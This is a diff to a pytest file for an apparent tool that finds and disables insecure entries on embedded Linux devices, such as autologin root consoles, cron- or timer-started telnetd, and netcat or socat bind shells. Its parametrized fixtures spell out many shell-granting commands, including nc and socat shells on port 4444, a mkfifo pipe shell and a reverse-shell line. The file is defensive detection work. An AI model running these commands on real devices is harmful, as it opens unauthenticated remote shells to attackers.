@@ -244,6 +244,8 @@ def test_a_client_in_a_crontab_is_no_server() -> None:
         ("ttyS0::respawn:/sbin/getty -n -l /bin/sh 115200 ttyS0", True),
         ("ttyS0::respawn:/sbin/agetty --autologin root 115200 ttyS0", True),
         ("ttyS0::respawn:/bin/login -f root", True),
+        ("tty1::respawn:/sbin/mingetty --autologin root tty1", True),
+        ("tty1::respawn:/sbin/mingetty tty1", False),
         ("ttyS0::respawn:/sbin/getty -nl /bin/sh 115200 ttyS0", True),
         ("ttyS0::respawn:/sbin/getty -n -l/bin/sh 115200 ttyS0", True),
         ("ttyS0::respawn:/sbin/agetty --login-program=/bin/sh 115200 ttyS0", True),
@@ -257,6 +259,27 @@ def test_a_client_in_a_crontab_is_no_server() -> None:
         ("ttyS0::respawn:/bin/sh -c 'exec sh -l'", True),
         ("ttyS0::respawn:/usr/bin/env sh", True),
         ("ttyS0::respawn:su -", True),
+        ("::respawn:/bin/sh </dev/ttyS0 >/dev/ttyS0 2>&1", True),
+        ("::respawn:/bin/sh /opt/meter </dev/ttyS0 2>&1", False),
+        ("ttyS0::respawn:setsid sh -c 'exec sh </dev/ttyAMA0 >/dev/ttyAMA0 2>&1'", True),
+        ("ttyS0::respawn:/bin/bash --noprofile --rcfile /etc/rc", True),
+        ("ttyS0::respawn:/bin/bash --norc -i", True),
+        ("ttyS0::respawn:/bin/zsh", True),
+        ("ttyS0::respawn:/bin/sh -x", True),
+        ("ttyS0::respawn:chroot /mnt /bin/sh", True),
+        ("ttyS0::respawn:chroot --userspec=0 /mnt", True),
+        ("ttyS0::respawn:exec </dev/ttyS0; /bin/sh", True),
+        ("ttyS0::respawn:/bin/su - -c /bin/sh", True),
+        ("ttyS0::respawn:sulogin --force", True),
+        ("ttyS0::respawn:/sbin/rungetty -u root tty1 -- /bin/bash", True),
+        ("ttyS0::respawn:/bin/sh -lc 'exec bash'", True),
+        ("::sysinit:/bin/mount -a && /bin/sh /etc/rc", False),
+        ("::sysinit:cat /etc/setup | sh", False),
+        ("::sysinit:chroot /mnt /opt/meter", False),
+        ("::once:sulogin", False),
+        ("::respawn:/bin/sh -ec '/opt/meter; sync'", False),
+        ("::respawn:/bin/bash -o pipefail /opt/meter", False),
+        ("::respawn:/sbin/rungetty tty1", False),
         ("ttyS0::respawn:/sbin/agetty -o '-p -- \\u' --noclear ttyS0", False),
         ("ttyS0::respawn:/sbin/getty -l /bin/login 115200 ttyS0", False),
         ("::respawn:su -c /opt/meter", False),
@@ -532,3 +555,263 @@ def test_what_a_unit_runs_counts_and_not_what_it_is_called() -> None:
     assert masked == {"maint.service", "help.socket", "away.socket", "autologin@.service"}
     assert "'autologin@*.service'" in legacy.plan(one, [*found.values()]).activate[0]
     assert legacy.asking(device()) == ""
+
+
+def test_a_getty_that_leaves_it_to_another_program_who_gets_in_is_for_somebody_to_look_at() -> None:
+    line = "ttyS0::respawn:/sbin/getty -n -l /usr/bin/rootsh 115200 ttyS0\n"
+    (found,) = legacy.find(device(files={"/etc/inittab": line}), {})
+    assert found.kind == "console" and "by /usr/bin/rootsh: look whether that asks" in found.unhandled[0]
+    assert not legacy.plan(device(), [found])
+    for fine in (line.replace("rootsh", "login"), line.replace(" -n", "")):
+        assert legacy.find(device(files={"/etc/inittab": fine}), {}) == []
+
+
+TIMED = """\
+Id=maint.timer
+ActiveState=active
+Triggers=maint.service
+
+Id=off.timer
+ActiveState=inactive
+Triggers=maint.service
+
+Id=drop.path
+ActiveState=active
+Triggers=drop.service
+
+Id=maint.service
+ActiveState=inactive
+ExecStart={ path=/usr/sbin/telnetd ; argv[]=/usr/sbin/telnetd -F -p 2323 ; ignore_errors=no }
+
+Id=drop.service
+ActiveState=inactive
+ExecStart={ path=/usr/bin/logrotate ; argv[]=/usr/bin/logrotate ; ignore_errors=no }
+"""
+
+
+def test_what_a_timer_of_systemd_starts_goes_with_its_timer_and_only_the_timer_comes_back() -> None:
+    one = device(units={"ssh.service": {"active": "active", "enabled": "enabled"}})
+    assert "'*.timer' '*.path'" in legacy.asking(one)
+    one = legacy.with_commands(one, Reply((("unit_commands", TIMED),), 0))
+    (found,) = legacy.find(one, {})
+    assert (found.kind, found.units) == ("telnet", {"maint.timer", "maint.service"})
+    plan = legacy.plan(one, [found])
+    assert [entry["dest"].rpartition("/")[2] for entry in plan.files] == ["maint.service", "maint.timer"]
+    assert "systemctl start maint.timer" in "".join(plan.revert)
+    assert "systemctl start maint.service" not in "".join(plan.revert)
+    off = legacy.with_commands(
+        device(), Reply((("unit_commands", TIMED.replace("ActiveState=active", "ActiveState=inactive")),), 0)
+    )
+    assert legacy.find(off, {}) == []
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/crontab", "*/5 * * * * root pidof telnetd || /usr/sbin/telnetd -p 9923"),
+        ("/etc/cron.d/care", "@hourly root /usr/sbin/telnetd -p 9923"),
+        ("/etc/crontabs/root", "*/5 *\t* * * telnetd -p 9923"),
+    ],
+)
+def test_a_line_of_cron_starts_what_it_names_whenever_that_is(path: str, line: str) -> None:
+    text = f"SHELL=/bin/sh\nMAILTO = root\n{line}\n5 4 * * * root\n5 4 * * * root killall telnetd\n"
+    one = device(files={path: text})
+    (found,) = legacy.find(one, {})
+    assert found.kind == "telnet" and [entry.line for entry in found.entries] == [3]
+    assert legacy.plan(one, [found]).files[0]["content"].splitlines()[2] == f"{boot_files.MARK}{line}"
+
+
+def test_a_crontab_of_roots_own_is_read_for_this_alone_and_shown_to_nobody() -> None:
+    path = "/var/spool/cron/crontabs/root"
+    one = device(tools={"crond": "/usr/sbin/crond"})
+    assert f'blob "aside "{path} <{path}' in legacy.asking(one)
+    assert path not in legacy.asking({**one, "files": {path: "@reboot x"}}), "the probe has sent it"
+    assert legacy.asking(device(tools={"nc": "/bin/nc"})) == ""
+    text = "0 * * * * curl -u me:secret http://gw\n*/5 * * * * pidof telnetd || telnetd\n"
+    one = legacy.with_commands(one, Reply(((f"aside {path}", text),), 0))
+    (found,) = legacy.find(one, {})
+    (entry,) = legacy.plan(one, [found]).files
+    assert entry["dest"] == path and entry["secret"] and "me:secret" in entry["content"]
+    assert "secret" not in str(legacy.shown(one)) and "secret" not in str(found.report())
+
+
+def test_a_file_that_is_not_utf_8_is_read_all_the_same_and_one_that_is_too_long_is_named() -> None:
+    omitted = {
+        "/etc/inittab": "is not UTF-8",
+        "/etc/init.d/rcS": "is longer than 65536 bytes",
+        "/etc/ssh/x": "is not UTF-8",
+    }
+    one = device(files_omitted=omitted)
+    assert legacy.asking(one) == 'if [ -r /etc/inittab ]; then blob "aside "/etc/inittab </etc/inittab; fi\n'
+    text = b"# Ger\xe4t\nttyS0::respawn:/bin/sh\n".decode("utf-8", "surrogateescape")
+    one = legacy.with_commands(one, Reply((("aside /etc/inittab", text),), 0))
+    (found,) = legacy.find(one, {})
+    (entry,) = legacy.plan(one, [found]).files
+    after = entry["content"].encode("utf-8", "surrogateescape")
+    assert (
+        found.kind == "console"
+        and after == b"# Ger\xe4t\n" + f"{boot_files.MARK}ttyS0::respawn:/bin/sh\n".encode()
+    )
+    assert legacy.unread(one) == [
+        "/etc/init.d/rcS is longer than 65536 bytes, so what it starts was not looked at; look at it by hand, or make it readable"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("command", "kind"),
+    [
+        ("nc -l -p 4444 -e /bin/sh", "debug server"),
+        ("nc -lvp 4444 -e /bin/bash", "debug server"),
+        ("busybox nc -ll -p 4444 -e /bin/sh -i", "debug server"),
+        ("nc.traditional -nlkp4444 -c 'sh -i'", "debug server"),
+        ("ncat -l 4444 -k --sh-exec '/bin/sh'", "debug server"),
+        ("ncat --listen --exec=/bin/bash 4444", "debug server"),
+        ("nc -e /bin/sh -l -p 4444 10.0.0.9", "debug server"),
+        ("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", "debug server"),
+        ("socat -d TCP6-L:4444,fork EXEC:'bash -li',pty,stderr,setsid", "debug server"),
+        ("socat UDP4-LISTEN:4444 SYSTEM:/bin/sh", "debug server"),
+        ("socat OPENSSL-LISTEN:4444,cert=/a.pem,verify=0,fork EXEC:sh", "debug server"),
+        ("socat EXEC:/bin/sh tcp-listen:4444", "debug server"),
+        ("tcpsvd -vE -c 3 0.0.0.0 4444 /bin/sh -i", "debug server"),
+        ("ttyd -p 4444 -W bash", "debug server"),
+        ("nc -l -p 4444 -e /bin/login", "telnet"),
+        ("tcpsvd -vE 0.0.0.0 4444 ftpd -w /srv", "ftp"),
+        ("busybox tcpsvd 0 4444 telnetd -i", "telnet"),
+        ("udpsvd -hE 0 4444 tftpd /srv", "tftp"),
+        ("nc -l -p 4444 -e /bin/sh /opt/meter.sh", ""),
+        ("nc -l -p 4444", ""),
+        ("nc -e /bin/sh 10.0.0.9 4444", ""),
+        ("nc -z -w 5 gateway 4444", ""),
+        ("socat UNIX-LISTEN:/run/4444,fork EXEC:/bin/sh", ""),
+        ("socat TCP-LISTEN:4444,fork TCP:10.0.0.9:80", ""),
+        ("socat TCP-LISTEN:4444,fork EXEC:/opt/meter", ""),
+        ("socat OPENSSL-LISTEN:4444,cert=/a.pem,cafile=/b.pem EXEC:/bin/sh", ""),
+        ("ttyd -p 4444 -c me:secret bash", ""),
+        ("tcpsvd 0 4444 /opt/meter", ""),
+        ("socat - EXEC:/bin/sh", ""),
+    ],
+)
+def test_what_gives_a_shell_to_whoever_connects_is_found_where_it_starts_and_where_it_listens(
+    command: str, kind: str
+) -> None:
+    expected = [kind] if kind else []
+    for path, text in {
+        "/etc/rc.local": f"#!/bin/sh\n{command} &\n",
+        "/etc/inittab": f"::respawn:{command}\n",
+        "/etc/cron.d/x": f"@reboot root {command}\n",
+    }.items():
+        assert kinds(legacy.find(device(files={path: text}), {})) == expected, path
+    program = command.split()[0]
+    unit = {"x.service": {"active": "active", "enabled": "enabled"}}
+    one = device(
+        listening=[socket("tcp", 4444, program, "x.service")], processes=running((9, command)), units=unit
+    )
+    found = legacy.find(one, {})
+    assert kinds(found) == expected and not any(each.unhandled for each in found)
+    if kind:
+        plan = legacy.plan(one, found)
+        assert [entry["dest"] for entry in plan.files] == ["/etc/systemd/system/x.service"]
+    asleep = device(units={"x.service": {"active": "inactive", "enabled": "enabled"}})
+    shown = f"Id=x.service\nExecStart={{ path=x ; argv[]=/usr/bin/{command} ; ignore_errors=no }}\n"
+    assert (
+        kinds(legacy.find(legacy.with_commands(asleep, Reply((("unit_commands", shown),), 0)), {}))
+        == expected
+    )
+
+
+def test_a_shell_behind_a_pipe_and_a_netcat_goes_with_the_netcat() -> None:
+    line = "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 4444 >/tmp/f &"
+    one = device(
+        files={"/etc/rc.local": f"#!/bin/sh\n{line}\n"},
+        listening=[socket("tcp", 4444, "nc"), socket("tcp", 4445, "nc", pid=8)],
+        processes=running((9, "nc -l 4444"), (8, "nc -l 4445")),
+    )
+    (found,) = legacy.find(one, {})
+    assert (found.kind, found.sockets, found.unhandled) == ("debug server", {("tcp", 4444)}, [])
+    report = device(files={"/etc/rc.local": "#!/bin/sh\ndmesg | nc -l 4444 &\nsh -i | tee /tmp/f\n"})
+    assert legacy.find(report, {}) == []
+
+
+def test_each_shell_server_is_accounted_for_by_its_port() -> None:
+    one = device(
+        files={"/etc/inittab": "::respawn:nc -ll -p 4444 -e /bin/sh\n"},
+        listening=[socket("tcp", 4444, "nc", pid=8), socket("tcp", 5555, "nc", pid=9)],
+        processes=running((8, "nc -ll -p 4444 -e /bin/sh"), (9, "nc -ll -p 5555 -e /bin/sh")),
+    )
+    (found,) = legacy.find(one, {})
+    assert found.unhandled == ["nc listens on 5555/tcp, and nothing that starts it was found"]
+
+
+def test_a_socket_of_systemd_whose_service_is_a_shell_goes() -> None:
+    one = device(units={"help.socket": {"active": "active", "enabled": "enabled"}},
+                 listening=[socket("tcp", 4444, "systemd", "help.socket", pid=1)])  # fmt: skip
+    shown = SHOWN.replace("/usr/sbin/in.telnetd", "/bin/sh -i")
+    (found,) = legacy.find(legacy.with_commands(one, Reply((("unit_commands", shown),), 0)), {})
+    assert (found.kind, found.units, found.sockets) == ("debug server", {"help.socket"}, {("tcp", 4444)})
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["while :; do nc -l -p 4444 -e /bin/sh; done &", "(sleep 5; nc -l -p 4444 -e /bin/sh) &",
+     "if [ -x /bin/nc ]; then nc -l -p 4444 -e /bin/sh; fi", "{ nc -l -p 4444 -e /bin/sh; }",
+     "until false; do nc -l -p 4444 -e /bin/sh; done >/dev/null 2>&1 &"],
+)  # fmt: skip
+def test_a_construct_that_is_one_line_goes_as_one(line: str) -> None:
+    one = device(files={"/etc/rc.local": f"#!/bin/sh\n{line}\n"})
+    (found,) = legacy.find(one, {})
+    assert found.unhandled == []
+    text = legacy.plan(one, [found]).files[0]["content"]
+    assert text.splitlines()[1] == f": {boot_files.MARK}{line}"
+    half = device(files={"/etc/rc.local": f"#!/bin/sh\n{line.rsplit(' ', 2)[0]}\n"})
+    for each in legacy.find(half, {}):
+        assert "one line" not in "".join(each.unhandled) or not legacy.plan(half, [each]).files
+
+
+def test_a_loop_that_loses_its_body_rests_and_does_not_run_in_circles() -> None:
+    script = "#!/bin/sh\n# while nobody looks\nif true; then\n  telnetd\nfi\nwhile :; do\n  telnetd -F\ndone &\ntelnetd -p 24\n"
+    one = device(files={"/etc/init.d/rcS": script})
+    text = legacy.plan(one, legacy.find(one, {})).files[0]["content"]
+    assert text.splitlines()[3::3] == [
+        f"  : {boot_files.MARK}telnetd",
+        f"  sleep 60 {boot_files.MARK}telnetd -F",
+    ]
+    assert text.splitlines()[-1] == f": {boot_files.MARK}telnetd -p 24"
+    assert legacy.find(device(files={"/etc/init.d/rcS": text}), {}) == []
+
+
+CONSOLES = """\
+Id=serial-getty@ttyS0.service
+DropInPaths=/usr/lib/systemd/system/serial-getty@.service.d/auto.conf
+ExecStart={ path=/sbin/agetty ; argv[]=/sbin/agetty --autologin root %I 115200 ; ignore_errors=yes }
+
+Id=getty@tty1.service
+ExecStart={ path=/sbin/agetty ; argv[]=/sbin/agetty -o -p -- \\\\u --noclear - $TERM ; ignore_errors=yes }
+
+Id=getty@tty2.service
+ExecStart={ path=/sbin/agetty ; argv[]=/sbin/agetty -a root tty2 ; ignore_errors=yes }
+"""
+
+
+@pytest.mark.parametrize("folder", ["/usr/lib", "/run", "/lib", "/usr/local/lib"])
+def test_a_console_that_a_packages_or_a_running_drop_in_opens_asks_again_and_stays_so_after_an_upgrade(
+    folder: str,
+) -> None:
+    path = f"{folder}/systemd/system/serial-getty@.service.d/auto.conf"
+    one = device(units={"ssh.service": {"active": "active", "enabled": "enabled"}})
+    assert "'*getty*.service'" in legacy.asking(one)
+    shown = Reply((("unit_commands", CONSOLES), (f"drop_in {path}", f"{AUTOLOGIN}TTYReset=no\n")), 0)
+    one = legacy.with_commands(one, shown)
+    (found,) = legacy.find(one, {})
+    assert found.kind == "console" and found.units == {"getty@tty2.service"}
+    plan = legacy.plan(one, [found])
+    dropped, masked = plan.files
+    assert dropped["dest"] == "/etc/systemd/system/serial-getty@.service.d/auto.conf"
+    assert [line for line in dropped["content"].splitlines() if not line.startswith("#")] == [
+        "[Service]",
+        "TTYReset=no",
+    ]
+    assert masked == {"dest": "/etc/systemd/system/getty@tty2.service", "link": "/dev/null"}
+    assert any("try-restart 'serial-getty@*.service'" in text for text in plan.activate)
+    # systemd itself then says which file counts.
+    after = {**one, "files": {dropped["dest"]: dropped["content"]}, "units": {}, "unit_commands": {}}
+    assert legacy.find(after, {}) == []
